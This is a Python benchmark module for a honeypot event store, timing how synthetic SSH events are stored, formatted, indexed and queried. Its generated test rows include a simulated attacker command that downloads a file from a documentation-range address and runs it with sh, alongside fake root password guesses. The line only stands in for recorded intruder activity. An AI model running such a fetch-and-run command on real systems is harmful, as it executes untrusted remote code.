"""Stored events: how fast they are stored, formatted and indexed, and how long questions take.

    DECNET_BENCH_EVENTS=10000000 python -m tests.bench events     questions over that many stored events
    python -m tests.bench.events COUNT     the same
    python -m tests.bench.events store COUNT     stores them, in a process of its own

Questions are functions of the store: what a command takes in addition is its start-up, and the printing of
what it found. A million events take 0.35 GB and less than two minutes; ten million 3.5 GB and ten minutes.
"""

from __future__ import annotations

import json
import os
import random
import resource
import subprocess
import sys
import tempfile
import time
from collections import deque
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import orjson

from decnet import __version__
from decnet.export import FORMATS, Sighting
from decnet.export.activity import Tally
from decnet.plan.attackers import by_source, merged
from decnet.store.event_index import Coverage, index_path, totals
from decnet.store.events import LIMIT, append_events, event_of, read_events
from decnet.store.index_writer import update_index
from decnet.store.latest import latest_events
from decnet.store.paths import Home
from decnet.store.retention import MOST_FILES
from decnet.store.touches import read_touches
from decnet.worker.responses import EventPage

from .rows import Row, show

COUNT = 100_000
QUESTIONED = int(os.environ.get("DECNET_BENCH_EVENTS", "500000"))
MOST_FROM_FILES = 1_000_000
"""Questions over more events are not answered from the files alone, which takes minutes."""

WORKERS = 4
SOURCES = 2_000
DAYS = 365.0
DAY = 86_400.0
NOW = 1.8e9
PAGE = 1_000
PAGE_FIELDS = {"spool_id": "spool", "verdict": "ok", "more": True}
FORMATTED = 5_000

HOUR_AIM, SOURCES_AIM, MONTH_AIM = 0.3, 2.0, 10.0
"""Seconds, over 10,000,000 events."""

STORED_AIM, LINES_AIM = 2_000, 5_000
"""A second."""

MOST_MIB = 200.0


def event_rows(count: int = QUESTIONED) -> list[Row]:
    """Storing, formats, indexing, and three questions, each answered with and without the index."""
    with tempfile.TemporaryDirectory(prefix="q-bench-") as folder:
        return [*_storing(), *_formats(), *_questions(Home(Path(folder)), count)]


def _storing() -> list[Row]:
    argv = [sys.executable, "-m", "tests.bench.events", "store", str(COUNT)]
    figures = json.loads(subprocess.check_output(argv))
    what = f"{COUNT} events of a worker's answers stored"
    return [
        Row(what, figures["wall"], COUNT / STORED_AIM, f"{STORED_AIM} a second", 1),
        Row(f"{what}, memory of the process", figures["memory"], MOST_MIB, "the aim", 1, "MiB"),
    ]


def _formats() -> list[Row]:
    events = [event for row in stored_rows(FORMATTED) if (event := event_of(row)) is not None]
    seen = [Sighting(each.event, "w1", __version__) for each in events]
    return [
        Row(
            f"{FORMATTED} events as {name}",
            _timed(lambda spell=spell: [spell(each) for each in seen])[0],  # type: ignore[misc]
            FORMATTED / LINES_AIM,
            f"{LINES_AIM} a second",
            1,
        )
        for name, spell in FORMATS.items()
    ]


def _questions(home: Home, count: int) -> list[Row]:
    fill(home, count)
    built, _ = _timed(lambda: index(home))
    size = index_path(home).stat().st_size / 1024**2
    events = sum(each.stat().st_size for each in home.events_dir.rglob("*.jsonl*")) / 1024**2
    rows = [
        Row(f"index of {count} stored events built", built, count / 80_000, "two minutes for 10,000,000"),
        Row("the index on disk", size, events, "the events", unit="MiB"),
    ]
    questions: list[tuple[str, float, Callable[[Coverage | None], int]]] = [
        ("--since 1h", HOUR_AIM, lambda coverage: _count(home, NOW - 3600, coverage)),
        ("attackers", SOURCES_AIM, lambda coverage: sources(home, coverage)),
        ("--since 30d", MONTH_AIM, lambda coverage: _count(home, NOW - 30 * DAY, coverage)),
        ("summary --since 30d", MONTH_AIM, lambda coverage: _counted(home, NOW - 30 * DAY, coverage)),
        ("--since 30d --tail 100", HOUR_AIM, lambda coverage: _last(home, NOW - 30 * DAY, coverage)),
    ]
    for what, aim, ask in questions:
        from_index, found = _timed(lambda ask=ask: ask(None))  # type: ignore[misc]
        title = f"{what} over {count} events: {found}"
        rows.append(Row(title, from_index, aim, "the aim for 10,000,000", 1))
        if count <= MOST_FROM_FILES:
            from_files, same = _timed(lambda ask=ask: ask(Coverage({})))  # type: ignore[misc]
            assert found == same, (what, found, same)
            rows.append(Row(title, from_index, from_files, "the files without the index"))
    return rows


def _count(home: Home, since: float, coverage: Coverage | None) -> int:
    return sum(1 for row in read_events(home, since=since, coverage=coverage))


def _counted(home: Home, since: float, coverage: Coverage | None) -> int:
    tally = Tally()
    for touch in read_touches(home, since=since, coverage=coverage):
        tally.add(touch)
    return tally.events


def _last(home: Home, since: float, coverage: Coverage | None) -> int:
    if coverage is None:
        return len(latest_events(home, 100, lambda touch: True, since=since))
    return len(deque(read_events(home, since=since, coverage=coverage), maxlen=100))


def sources(home: Home, coverage: Coverage | None) -> int:
    known, rest = totals(home) if coverage is None else ({}, coverage)
    return len(merged(known, by_source(read_touches(home, coverage=rest)).values()))


def index(home: Home) -> None:
    while (done := update_index(home, 60.0)) is not None and done.after < done.whole:
        pass


def fill(home: Home, count: int) -> None:
    """The files of the workers, as pulls leave them."""
    for worker in range(WORKERS):
        folder = home.events(f"w{worker}")
        folder.mkdir(parents=True)
        size, parts, lines = 0, [], []
        for row in stored_rows(count // WORKERS, seed=worker):
            lines.append(orjson.dumps(row, option=orjson.OPT_APPEND_NEWLINE))
            size += len(lines[-1])
            if size > LIMIT:
                parts.append(folder / f"part{len(parts)}")
                parts[-1].write_bytes(b"".join(lines))
                size, lines = 0, []
        (folder / "events.jsonl").write_bytes(b"".join(lines))
        for number, part in enumerate(reversed(parts), 1):
            part.rename(folder / f"events.jsonl.{number}")


def stored_rows(count: int, seed: int = 0) -> Iterator[dict[str, Any]]:
    """Stored rows of a year: mostly contacts and logins, of sources that come back."""
    dice = random.Random(seed)
    for number in range(count):
        source = "203.0.{}.{}".format(*divmod(dice.randrange(SOURCES), 250))
        kind = dice.choice(("contact", "login", "login", "command", "disconnect"))
        fields = {
            "login": {"method": "password", "username": "root", "password": f"p{dice.randrange(500)}"},
            "command": {"input": "cd /tmp; wget http://192.0.2.1/x; sh x", "way": "shell"},
            "disconnect": {"seconds": 3.5, "bytes_in": 900, "bytes_out": 700, "reason": "closed"},
        }.get(kind, {})  # fmt: skip
        yield {
            "worker": f"w{seed}", "spool_id": "spool", "id": f"web-{number}-{seed}", "seq": number + 1,
            "at": NOW - DAYS * 86_400 * (1 - number / count), "decky": f"web-{number % 20:02d}",
            "service": "ssh", "kind": kind, "source_ip": source, "source_port": 40112,
            "session": "0123456789ab", "local_ip": "192.0.2.100", "local_port": 22, "transport": "tcp",
            "fields": fields,
        }  # fmt: skip


def store(count: int) -> dict[str, float]:
    """Parse and store answers of a worker, page by page."""
    with tempfile.TemporaryDirectory(prefix="q-bench-") as folder:
        home = Home(Path(folder))
        pages = _answers(count)
        began = time.perf_counter()
        for answer in pages:
            page = EventPage.model_validate_json(answer)
            append_events(home, "w0", page, keep=MOST_FILES)
        return {
            "wall": time.perf_counter() - began,
            "memory": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
        }


def _answers(count: int) -> Iterator[bytes]:
    rows: list[dict[str, Any]] = []
    for row in stored_rows(count):
        rows.append({name: value for name, value in row.items() if name not in ("worker", "spool_id")})
        if len(rows) == PAGE:
            yield orjson.dumps({"events": rows, "first_seq": 1, "last_seq": count, **PAGE_FIELDS})
            rows = []


def _timed(work: Callable[[], Any]) -> tuple[float, Any]:
    began = time.perf_counter()
    result = work()
    return time.perf_counter() - began, result


if __name__ == "__main__":
    if sys.argv[1] == "store":
        print(json.dumps(store(int(sys.argv[2]))))
    else:
        show(event_rows(int(sys.argv[1])))
